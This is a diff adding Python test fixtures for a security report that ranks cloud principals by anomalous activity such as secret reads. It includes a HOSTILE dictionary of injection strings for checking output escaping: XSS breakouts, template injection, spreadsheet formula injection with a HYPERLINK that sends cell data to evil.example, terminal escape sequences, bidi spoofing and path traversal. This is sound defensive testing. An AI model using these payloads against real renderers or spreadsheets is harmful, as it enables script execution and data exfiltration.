@@ -1,0 +1,181 @@
+"""Nights for the report tests: calm defaults, every field to be overridden by name."""
+
+from dataclasses import fields
+from datetime import UTC, date, datetime
+from typing import Any
+
+from pipelines.report.model import Coverage, Evidence, Night, RankedPrincipal, Reason
+
+HOSTILE = {
+    "img": "<img src=x onerror=alert(1)>",
+    "script": "</script><script>alert(1)</script>",
+    "style": "</style><style>*{display:none}</style>",
+    "attribute": '" onmouseover="alert(1)" x="',
+    "single-quote": "' autofocus onfocus='alert(1)",
+    "comment": "--><b>out</b><!--",
+    "entity": "&lt;b&gt;&#x3c;i&#x3e;",
+    "template": "{{ 7 * 7 }}{% raw %}",
+    "hyperlink": '=HYPERLINK("https://evil.example/?"&A1,"open")',
+    "plus": "+1",
+    "minus": "-1",
+    "at": "@SUM(1)",
+    "tab": "\t=1",
+    "cr": "\r=1",
+    "space-formula": "  =1",
+    "line-break": "a,b\n=1",
+    "separator": "a;=1",
+    "quote": '",=1,"',
+    "full-width-sign": "\uff1d1",
+    "bidi": "\u202etxt.exe",
+    "isolate": "\u2066a\u2069",
+    "zero-width": "ad\u200bmin",
+    "filler": "ad\u3164min",
+    "line-separator": "a\u2028b\u2029c",
+    "escape": "\x1b[2Jgone",
+    "osc": "\x1b]8;;https://evil.example\x07link\x1b]8;;\x07",
+    "c1": "\x9b31mred",
+    "del": "\x7f",
+    "nul": "a\x00b",
+    "surrogate": "\ud800",
+    "private": "\ue000",
+    "unassigned": "\U000e0fff",
+    "long": "A" * 65_536,
+    "long-controls": "\x1b" * 65_536,
+    "empty": "",
+    "spaces": "   ",
+    "full-width": "\uff41\uff44\uff4d\uff49\uff4e",
+    "path": "../../etc",
+    "hive": "a=b",
+    "percent": "%2F..",
+    "markup": "[bold]x[/bold]",
+    "markup-link": "[link=https://evil.example]x[/link]",
+    "markup-broken": "[/]",
+    "url": "https://evil.example/",
+}
+
+
+def reason(**changes: Any) -> Reason:
+    """41 secrets read, by one who reads none."""
+    return Reason(
+        **{
+            "feature": "secret_reads",
+            "meaning": "Secrets read, listed or watched with success.",
+            "unit": "requests",
+            "value": 41,
+            "expected": 0.02,
+            "usual": 0.0,
+            "surprise": 3.5,
+            "share": 0.72,
+        }
+        | changes
+    )
+
+
+def evidence(**changes: Any) -> Evidence:
+    """The first two of 41 requests, within one minute."""
+    return Evidence(
+        **{
+            "feature": "secret_reads",
+            "requests": 41,
+            "audit_ids": (
+                "7e1f0a52-36a5-4b5c-9d57-1c2a5d1f0001",
+                "7e1f0a52-36a5-4b5c-9d57-1c2a5d1f0002",
+            ),
+            "first_ts": datetime(2026, 11, 22, 3, 12, 7, 250_000, tzinfo=UTC),
+            "last_ts": datetime(2026, 11, 22, 3, 12, 59, tzinfo=UTC),
+        }
+        | changes
+    )
+
+
+def ranked(rank: int = 1, **changes: Any) -> RankedPrincipal:
+    """A person with one reason and its evidence."""
+    return RankedPrincipal(
+        **{
+            "rank": rank,
+            "rank_lo": rank,
+            "rank_hi": rank + 1,
+            "principal": "role/dev-eve",
+            "usernames": ("role/dev-eve",),
+            "type": "person",
+            "peer_group": "person",
+            "requests": 412,
+            "score": 120.5 / rank,
+            "codisp": 12.05,
+            "norm": 10.0 / rank,
+            "aws_score": 1.25,
+            "one_in": 3_500.0,
+            "reasons": (reason(),),
+            "evidence": (evidence(),),
+            "marks": (),
+            "first_seen": date(2026, 11, 1),
+            "history_nights": 7,
+        }
+        | changes
+    )
+
+
+def coverage(**changes: Any) -> Coverage:
+    """A whole day that adds up."""
+    return Coverage(
+        **{
+            "read": 1_000,
+            "archived": 900,
+            "duplicate": 60,
+            "quarantined": 30,
+            "outside": 10,
+            "collisions": 0,
+            "truncated": 0,
+            "hours_seen": tuple(range(24)),
+            "blind": (),
+        }
+        | changes
+    )
+
+
+def night(*rows: RankedPrincipal, **changes: Any) -> Night:
+    """A calm night of one principal, with a full history and nothing to say about it."""
+    return Night(
+        **{
+            "cluster": "prod-usw2",
+            "date": date(2026, 11, 22),
+            "generation": 1,
+            "coverage": coverage(),
+            "history_nights": 7,
+            "history_expected": 7,
+            "ranked": rows or (ranked(),),
+            "notices": (),
+            "seed": 0,
+            "trees": 300,
+            "version": "0.1.0",
+        }
+        | changes
+    )
+
+
+def night_of(text: str, rows: int = 27) -> Night:
+    """A night in which every text that can come from a log, or stand beside one, is `text`."""
+    everyone = (
+        ranked(
+            rank,
+            principal=text,
+            usernames=(text, "role/other"),
+            type=text,
+            peer_group=text,
+            marks=(text,),
+            reasons=(reason(meaning=text, unit=text), reason(feature=text)),
+            evidence=(evidence(audit_ids=(text, text)), evidence(feature="loose\n" + text)),
+        )
+        for rank in range(1, rows + 1)
+    )
+    return night(*everyone, cluster=text, notices=(text,), coverage=coverage(blind=(text,)))
+
+
+def bare(rank: int = 1) -> RankedPrincipal:
+    """A principal of whom only what must be known is known."""
+    empty = {
+        field.name: None
+        for field in fields(RankedPrincipal)
+        if field.name in ("rank_lo", "rank_hi", "aws_score", "one_in", "first_seen")
+    }
+    return ranked(rank, **empty, reasons=(), evidence=(), history_nights=0)
